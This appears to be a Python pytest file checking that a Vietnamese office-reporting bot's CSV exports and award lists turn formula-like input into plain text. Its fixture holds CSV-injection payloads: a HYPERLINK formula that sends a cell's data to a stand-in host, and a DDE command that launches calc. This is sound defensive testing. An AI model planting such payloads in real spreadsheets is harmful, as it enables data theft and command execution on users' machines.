"""What units type reaches the office's CSV files as text, never as a formula Excel runs.

A unit's answers, the names of its files, its name on the roster and the Telegram name of
its head are all someone else's words; the office opens the CSV exports in Excel. The
period export (through the service and through `cchc-bot export`) and the award list
(`cchc-bot awards`) are built from a real database and read back cell by cell.
"""

from __future__ import annotations

import asyncio
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from bot.config import Settings
from bot.forms.schema import NUMERIC_TYPES
from bot.services.container import Services, open_services
from bot.services.export import FIXED_COLUMNS
from bot.services.registration import RedeemOutcome
from bot.texts.cli import AWARD_COLUMNS
from tests.awards_year import UnitYear, report_year
from tests.cli_support import clean_environment, run
from tests.clock import FakeClock
from tests.conftest import EXAMPLE_UNITS, example_roster
from tests.reports import VALID_ANSWERS
from tests.rules import TEST_FORM

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
UNIT = "THPT-QH"
UNIT_NAME = '=HYPERLINK("http://x/?d="&B3,"Trường THPT Quốc Học")'
HEAD_NAME = "-1+1 Nguyễn Văn Bình"
FILE_NAME = "=2+3.pdf"
ANSWERS = {
    "highlights": '=HYPERLINK("http://x/?d="&B3,"Chi tiết")',
    "shortcomings": "@SUM(1+1)*cmd|' /C calc'!A0",
    "next_quarter": "+1+1",
    "requests": "-2+3",
    "signed_report": f"file:{FILE_NAME}",
    "dossiers_online": "1.200",
    # All it submitted to the Sở went online: with a year reported and appraised, the
    # unit is an award candidate.
    "procedures_to_dept": "10",
    "procedures_to_dept_online": "10",
}
NOMINEE, REASON = "@Nguyễn Văn An", "=1+1 thụ lý hồ sơ đúng hạn"


@pytest.fixture(autouse=True)
def env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    return clean_environment(monkeypatch, tmp_path)


def open_db(env: Path) -> Settings:
    return Settings(db_path=env, _env_file=None)  # type: ignore[call-arg]


@pytest.fixture
def hostile(env: Path, tmp_path: Path) -> None:
    """A year (from quý I/2025) reported by a unit whose name, head, answers and file look
    like formulas; a division's civil servant nominated with a name and a reason that do
    too."""

    async def setup() -> None:
        clock = FakeClock()
        services = await open_services(open_db(env), clock=clock)
        try:
            await services.roster.import_file(example_roster(), actor="test")
            renamed = tmp_path / "renamed.csv"
            with renamed.open("w", encoding="utf-8", newline="") as handle:
                csv.writer(handle).writerows(
                    [["code", "name", "block"], [UNIT, UNIT_NAME, "truc_thuoc"]]
                )
            assert (await services.roster.import_file(renamed, actor="test")).updated == 1
            invite = await services.registration.create_invite(UNIT, "head", created_by="test")
            redeemed = await services.registration.redeem(
                1, invite.code, full_name=HEAD_NAME, username=None
            )
            assert redeemed.outcome is RedeemOutcome.BOUND
            who = await services.registration.identify(1)
            assert who.membership is not None
            await report_year(
                services, clock, {UNIT: UnitYear(ANSWERS)}, bound={UNIT: who.membership}
            )
            await services.awards.nominate(2025, "TCCB", NOMINEE, REASON, actor="cli")
        finally:
            await services.close()

    asyncio.run(setup())


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def assert_no_cell_starts_like_a_formula(rows: list[list[str]]) -> None:
    for r, row in enumerate(rows, start=1):
        for c, cell in enumerate(row, start=1):
            assert not cell.startswith(TRIGGERS), (r, c, cell)


def check_period_export(text: str) -> None:
    rows = read(text)
    assert_no_cell_starts_like_a_formula(rows)
    header = rows[0]
    by_code = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert len(by_code) == EXAMPLE_UNITS
    mine = by_code[UNIT]
    assert mine["unit_name"] == "'" + UNIT_NAME
    assert mine["status"] == "submitted"
    assert mine["signed_report"] == "'" + FILE_NAME
    for key in ("highlights", "shortcomings", "next_quarter", "requests"):
        assert mine[key] == "'" + ANSWERS[key], key
    # Numbers stay numbers a spreadsheet sums, written exactly as before.
    assert mine["version"] == "1"
    assert (mine["dossiers_received"], mine["dossiers_online"]) == ("1250", "1200")
    assert (mine["par_self_score"], mine["budget_disbursed"]) == ("85.5", "45.5")
    fields = TEST_FORM.fields
    assert header == [*FIXED_COLUMNS, *(f.key for f in fields)]
    numeric = [f.key for f in fields if f.type in NUMERIC_TYPES]
    skipped = [key for key in numeric if {**VALID_ANSWERS, **ANSWERS}[key] == "skip"]
    assert [key for key in numeric if mine[key] == ""] == skipped
    assert all(Decimal(mine[key]) >= 0 for key in numeric if mine[key]), mine
    # A unit that has not reported keeps its plain row.
    assert by_code["VP"]["unit_name"] == "Văn phòng Sở"


def test_period_csv_from_the_service_keeps_formulas_as_text(env: Path, hostile: None) -> None:
    async def export() -> bytes:
        services: Services = await open_services(open_db(env), clock=FakeClock())
        try:
            period = await services.periods.resolve("2025-Q1")
            assert period is not None
            return (await services.export.render(period, "csv")).content
        finally:
            await services.close()

    content = asyncio.run(export())

    assert content.startswith("\ufeffunit_code,unit_name,".encode())
    check_period_export(content.decode("utf-8"))


def test_period_csv_from_the_cli_keeps_formulas_as_text(
    capsys: pytest.CaptureFixture[str], hostile: None
) -> None:
    code, out, err = run(capsys, "export", "--period", "2025-Q1", "--format", "csv")

    assert (code, err) == (0, "")
    check_period_export(out)


def test_awards_csv_keeps_formulas_as_text(
    capsys: pytest.CaptureFixture[str], hostile: None
) -> None:
    code, out, err = run(capsys, "awards", "--year", "2025", "--format", "csv")

    assert (code, err) == (0, "")
    rows = read(out)
    assert_no_cell_starts_like_a_formula(rows)
    assert tuple(rows[0]) == AWARD_COLUMNS
    table = [dict(zip(AWARD_COLUMNS, row, strict=True)) for row in rows[1:]]
    unit = next(r for r in table if r["Mã đơn vị"] == UNIT and not r["Người được đề nghị"])
    head = next(r for r in table if r["Mã đơn vị"] == UNIT and r["Người được đề nghị"])
    person = next(r for r in table if r["Mã đơn vị"] == "TCCB")
    assert unit["Tên đơn vị"] == "'" + UNIT_NAME
    assert head["Người được đề nghị"] == "'" + HEAD_NAME
    assert (person["Người được đề nghị"], person["Lý do đề cử"]) == (
        "'" + NOMINEE,
        "'" + REASON,
    )
    # The numbers are still numbers.
    assert (unit["Vị trí"], unit["Hạng trong khối"], unit["Số quý có báo cáo"]) == ("1", "1", "4")
    assert (unit["Hồ sơ TTHC trình Sở"], unit["Trong đó trực tuyến"]) == ("40", "40")
    assert unit["Tỷ lệ trình Sở trực tuyến (%)"] == "100.0"
    assert Decimal(unit["Chỉ số năm"]) > 0
